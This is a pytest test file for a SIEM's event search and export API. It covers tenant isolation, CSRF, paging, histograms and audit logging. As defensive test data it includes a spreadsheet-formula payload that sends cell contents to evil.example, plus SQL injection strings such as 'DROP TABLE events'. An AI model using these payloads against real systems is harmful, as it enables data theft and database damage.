"""/api/v1/events: search, one event, histogram, top values, aggregations and export over a real DuckDB
store filled through the app's own SIEM runtime, with events of headquarters and of a branch."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson
import pytest
from fastapi.testclient import TestClient
from tests.api.support import assert_problem, audit_records, web_session

from vigil.core.auth import Role

START = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)
HOUR = f"{START.isoformat()}/{(START + timedelta(hours=1)).isoformat()}"
INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def at(minutes: int) -> str:
    return (START + timedelta(minutes=minutes)).isoformat()


def hq_events() -> list[dict[str, Any]]:
    """Six firewall events five minutes apart, two hosts, deny/allow alternating, plus one booby-trapped."""
    events: list[dict[str, Any]] = [
        {"@timestamp": at(5 * i), "host": {"name": f"fw0{1 + i % 2}"},
         "event": {"action": "deny" if i % 2 == 0 else "allow", "category": ["network"]},
         "source": {"ip": f"10.0.0.{i}"}, "destination": {"port": 443 + i},
         "message": f"connection {'denied' if i % 2 == 0 else 'allowed'} from 10.0.0.{i}"}
        for i in range(6)
    ]
    events.append({"@timestamp": at(31), "host": {"name": "fw01"}, "event": {"action": "note"},
                   "message": INJECTED})
    return events


def branch_events() -> list[dict[str, Any]]:
    return [{"@timestamp": at(2 + 10 * i), "host": {"name": "web-a"}, "user": {"name": "root"},
             "event": {"action": "login-failed", "original": f"sshd[{i}]: Failed password for root"},
             "message": "Failed password for root"} for i in range(3)]


@pytest.fixture
def loaded(client: TestClient, world: Any) -> Any:
    store = client.app.state.siem.store  # type: ignore[attr-defined]
    store.append(hq_events(), unit_id=world.hq, source="fw")
    store.append(branch_events(), unit_id=world.branch_a, source="auth-a")
    world.add_user("analyst_a", Role.ANALYST, world.branch_a)
    return world


def search(client: TestClient, world: Any, user: str = "analyst", **params: Any) -> dict[str, Any]:
    response = client.get("/api/v1/events/search", headers=world.headers(user), params={"range": HOUR, **params})
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


# --- search ------------------------------------------------------------------------------------------


def test_search_finds_events_newest_first_with_total_range_and_canonical_query(client: TestClient,
                                                                              loaded: Any) -> None:
    body = search(client, loaded, q="event.action:deny")
    assert body["total"] == 3
    assert [e["document"]["message"] for e in body["events"]] == [
        "connection denied from 10.0.0.4", "connection denied from 10.0.0.2", "connection denied from 10.0.0.0"]
    first = body["events"][0]
    assert first.keys() == {"id", "@timestamp", "source", "unit_id", "document"}
    assert first["@timestamp"].startswith("2026-11-20T10:20:00")
    assert first["source"] == "fw" and first["unit_id"] == loaded.hq
    assert body["range"] == {"start": "2026-11-20T10:00:00Z", "end": "2026-11-20T11:00:00Z"}
    assert body["query"] == "event.action:deny"
    assert body["took_ms"] >= 0
    fields = {f["field"]: f["count"] for f in body["fields"]}
    assert fields["event.action"] == 3 and fields["source.ip"] == 3


def test_headquarters_sees_every_unit_and_the_branch_analyst_only_the_branch(client: TestClient,
                                                                            loaded: Any) -> None:
    everything = search(client, loaded)
    assert everything["total"] == 10
    assert {e["unit_id"] for e in everything["events"]} == {loaded.hq, loaded.branch_a}
    branch = search(client, loaded, user="analyst_a")
    assert branch["total"] == 3
    assert {e["source"] for e in branch["events"]} == {"auth-a"}
    # Asking for headquarters' events by name finds nothing rather than an error.
    assert search(client, loaded, user="analyst_a", q="vigil.source:fw OR host.name:fw01")["total"] == 0


def test_pagination_and_ascending_order(client: TestClient, loaded: Any) -> None:
    pages = [search(client, loaded, q="vigil.source:fw", limit=3, offset=offset, sort="asc")
             for offset in (0, 3, 6)]
    assert [p["total"] for p in pages] == [7, 7, 7]
    stamps = [e["@timestamp"] for p in pages for e in p["events"]]
    assert len(stamps) == 7 and stamps == sorted(stamps)
    assert [len(p["events"]) for p in pages] == [3, 3, 1]
    assert search(client, loaded, limit=0)["events"] == []
    assert search(client, loaded, limit=0)["total"] == 10


def test_post_search_takes_a_json_body(client: TestClient, loaded: Any) -> None:
    response = client.post("/api/v1/events/search", headers=loaded.headers("analyst"),
                           json={"q": 'message:"failed password" AND user.name:root', "range": HOUR, "limit": 2})
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["total"] == 3 and len(body["events"]) == 2 and body["limit"] == 2


def test_post_search_from_a_browser_session_needs_the_csrf_token(client: TestClient, loaded: Any) -> None:
    secret, csrf = web_session(loaded.database, "analyst")
    client.cookies.clear()
    cookie = {"Cookie": f"vigil_session={secret}"}
    refused = client.post("/api/v1/events/search", headers=cookie, json={"q": "", "range": HOUR})
    assert_problem(refused, 403, "csrf-failed")
    accepted = client.post("/api/v1/events/search", headers={**cookie, "X-CSRF-Token": csrf},
                           json={"q": "", "range": HOUR})
    assert accepted.status_code == 200 and accepted.json()["total"] == 10


def test_relative_range_counts_back_from_now(client: TestClient, loaded: Any) -> None:
    store = client.app.state.siem.store  # type: ignore[attr-defined]
    store.append([{"@timestamp": (datetime.now(UTC) - timedelta(minutes=10)).isoformat(), "message": "recent"}],
                 unit_id=loaded.hq, source="fw")
    assert search(client, loaded, range="1h")["total"] == 1
    assert search(client, loaded, range="1h", q="recent")["events"][0]["document"]["message"] == "recent"


@pytest.mark.parametrize("params", [{"limit": 1001}, {"limit": -1}, {"offset": -1}, {"sort": "sideways"}])
def test_out_of_bounds_paging_is_422(client: TestClient, loaded: Any, params: dict[str, Any]) -> None:
    response = client.get("/api/v1/events/search", headers=loaded.headers("analyst"), params={"range": HOUR,
                                                                                               **params})
    assert_problem(response, 422)


def test_syntax_error_is_422_with_line_and_column(client: TestClient, loaded: Any) -> None:
    response = client.get("/api/v1/events/search", headers=loaded.headers("analyst"),
                          params={"q": "user.name:(root OR", "range": HOUR})
    body = assert_problem(response, 422, "query-syntax")
    assert body["errors"][0]["line"] == "1"
    assert body["errors"][0]["column"] == "19"
    assert "column 19" in body["detail"]


@pytest.mark.parametrize("bad", ["yesterday", "2026-11-21T00:00:00Z/2026-11-20T00:00:00Z", "99999999d", "now/x"])
def test_bad_range_is_422(client: TestClient, loaded: Any, bad: str) -> None:
    response = client.get("/api/v1/events/search", headers=loaded.headers("analyst"), params={"range": bad})
    assert_problem(response, 422)


@pytest.mark.parametrize("query", ["' OR 1=1 --", "message:\"x') UNION SELECT\"", "host.name:\"fw01' OR '1'='1\"",
                                   "message:\"%\" OR message:_", "user.name:root\\' OR 1=1"])
def test_injection_attempts_match_literally(client: TestClient, loaded: Any, query: str) -> None:
    assert search(client, loaded, user="analyst_a", q=query)["total"] == 0
    assert search(client, loaded)["total"] == 10  # and the table is still there


@pytest.mark.parametrize("query", ["x'); DROP TABLE events; --", "vigil.unit_id:* OR 1=1", "*:* OR vigil.unit_id:1",
                                   "vigil.unit_id:>0", "id:>0 OR unit_id:*"])
def test_hostile_queries_never_leave_the_callers_units(client: TestClient, loaded: Any, query: str) -> None:
    response = client.get("/api/v1/events/search", headers=loaded.headers("analyst_a"),
                          params={"q": query, "range": HOUR})
    if response.status_code == 422:  # refused as a syntax error is fine; a 500 or another unit's event is not
        assert_problem(response, 422, "query-syntax")
    else:
        assert response.status_code == 200, response.text
        assert {e["unit_id"] for e in response.json()["events"]} <= {loaded.branch_a}
    assert search(client, loaded)["total"] == 10


# --- one event -----------------------------------------------------------------------------------------


def test_one_event_with_its_original_record(client: TestClient, loaded: Any) -> None:
    found = search(client, loaded, q="user.name:root", limit=1)["events"][0]
    response = client.get(f"/api/v1/events/{found['id']}", headers=loaded.headers("analyst_a"))
    assert response.status_code == 200, response.text
    event = response.json()
    assert event["id"] == found["id"] and event["source"] == "auth-a"
    assert event["original"].startswith("sshd[") and "Failed password" in event["original"]
    assert event["document"]["user"]["name"] == "root"


def test_another_units_event_is_not_found_like_a_missing_one(client: TestClient, loaded: Any) -> None:
    hq_event = search(client, loaded, q="vigil.source:fw", limit=1)["events"][0]["id"]
    refused = client.get(f"/api/v1/events/{hq_event}", headers=loaded.headers("analyst_a"))
    missing = client.get("/api/v1/events/987654321", headers=loaded.headers("analyst_a"))
    assert_problem(refused, 404, "not-found")
    assert_problem(missing, 404, "not-found")
    assert refused.json()["detail"].replace(str(hq_event), "N") == missing.json()["detail"].replace("987654321", "N")
    assert client.get(f"/api/v1/events/{hq_event}", headers=loaded.headers("analyst")).status_code == 200
    assert_problem(client.get(f"/api/v1/events/{2**64}", headers=loaded.headers("analyst")), 422)


# --- histogram, top values, aggregations -------------------------------------------------------------------


def test_histogram_counts_every_bucket(client: TestClient, loaded: Any) -> None:
    response = client.get("/api/v1/events/histogram", headers=loaded.headers("analyst"),
                          params={"range": HOUR, "buckets": 6})
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["interval_seconds"] == 600
    assert [b["count"] for b in body["buckets"]] == [3, 3, 3, 1, 0, 0]
    assert body["buckets"][0]["start"] == "2026-11-20T10:00:00Z"
    assert body["total"] == 10
    branch = client.get("/api/v1/events/histogram", headers=loaded.headers("analyst_a"),
                        params={"range": HOUR, "buckets": 6}).json()
    assert [b["count"] for b in branch["buckets"]] == [1, 1, 1, 0, 0, 0]


def test_top_values_of_a_field(client: TestClient, loaded: Any) -> None:
    response = client.get("/api/v1/events/top-values", headers=loaded.headers("analyst"),
                          params={"range": HOUR, "field": "host.name", "limit": 2})
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["values"] == [{"value": "fw01", "count": 4}, {"value": "fw02", "count": 3}]
    assert body["total"] == 10 and body["field"] == "host.name"
    branch = client.get("/api/v1/events/top-values", headers=loaded.headers("analyst_a"),
                        params={"range": HOUR, "field": "host.name"}).json()
    assert branch["values"] == [{"value": "web-a", "count": 3}]
    bad = client.get("/api/v1/events/top-values", headers=loaded.headers("analyst"),
                     params={"range": HOUR, "field": "host.name') FROM x --"})
    assert_problem(bad, 422)


def test_aggregations_in_one_call(client: TestClient, loaded: Any) -> None:
    response = client.post("/api/v1/events/aggregations", headers=loaded.headers("analyst"), json={
        "q": "vigil.source:fw", "range": HOUR, "buckets": 2, "fields": ["event.action", "event.category"],
        "limit": 5})
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["total"] == 7 and body["query"] == "vigil.source:fw"
    assert body["histogram"]["interval_seconds"] == 1800
    assert [b["count"] for b in body["histogram"]["buckets"]] == [6, 1]
    assert body["top_values"]["event.action"] == [{"value": "allow", "count": 3}, {"value": "deny", "count": 3},
                                                  {"value": "note", "count": 1}]
    assert body["top_values"]["event.category"] == [{"value": "network", "count": 6}]


# --- export -----------------------------------------------------------------------------------------------


def test_csv_export_default_columns_and_formula_protection(client: TestClient, loaded: Any) -> None:
    response = client.get("/api/v1/events/export", headers=loaded.headers("analyst"),
                          params={"range": HOUR, "q": "vigil.source:fw"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith('attachment; filename="vigil-events-')
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["@timestamp", "vigil.source", "host.name", "event.action", "message"]
    assert len(rows) == 8
    assert rows[1][:4] == ["2026-11-20T10:31:00+00:00", "fw", "fw01", "note"]
    assert rows[1][4] == "'" + INJECTED  # a spreadsheet shows the text instead of running it
    assert rows[-1][4] == "connection denied from 10.0.0.0"
    records = audit_records(loaded.database, action="events.exported")
    assert len(records) == 1
    assert records[0].actor == "analyst"
    assert records[0].details["count"] == 7 and records[0].details["query"] == "vigil.source:fw"


def test_csv_export_with_chosen_fields_and_ndjson_export(client: TestClient, loaded: Any) -> None:
    chosen = client.get("/api/v1/events/export", headers=loaded.headers("analyst_a"),
                        params={"range": HOUR, "fields": "user.name,event.original", "sort": "asc"})
    rows = list(csv.reader(io.StringIO(chosen.content.decode("utf-8-sig"))))
    assert rows == [["user.name", "event.original"]] + [["root", f"sshd[{i}]: Failed password for root"]
                                                        for i in range(3)]
    ndjson = client.get("/api/v1/events/export", headers=loaded.headers("analyst_a"),
                        params={"range": HOUR, "format": "ndjson", "max": 2})
    assert ndjson.headers["content-type"].startswith("application/x-ndjson")
    lines = [orjson.loads(line) for line in ndjson.content.splitlines()]
    assert len(lines) == 2
    assert all(line["vigil"]["source"] == "auth-a" and line["vigil"]["event_id"] > 0 for line in lines)
    assert ndjson.headers["x-vigil-event-count"] == "2"
    counts = [r.details["count"] for r in audit_records(loaded.database, action="events.exported")]
    assert counts == [3, 2]


def test_export_refuses_bad_input_before_streaming(client: TestClient, loaded: Any) -> None:
    h = loaded.headers("analyst")
    assert_problem(client.get("/api/v1/events/export", headers=h, params={"q": "a:(", "range": HOUR}), 422,
                   "query-syntax")
    assert_problem(client.get("/api/v1/events/export", headers=h, params={"fields": "a b", "range": HOUR}), 422)
    assert_problem(client.get("/api/v1/events/export", headers=h, params={"format": "xlsx", "range": HOUR}), 422)
    assert_problem(client.get("/api/v1/events/export", headers=h, params={"max": 0, "range": HOUR}), 422)
    assert audit_records(loaded.database, action="events.exported") == []


def test_roles_without_events_read_are_refused(client: TestClient, loaded: Any) -> None:
    for user in ("viewer", "sysadmin", "auditor"):
        assert_problem(client.get("/api/v1/events/search", headers=loaded.headers(user)), 403, "permission-denied")
    assert_problem(client.get("/api/v1/events/search"), 401)
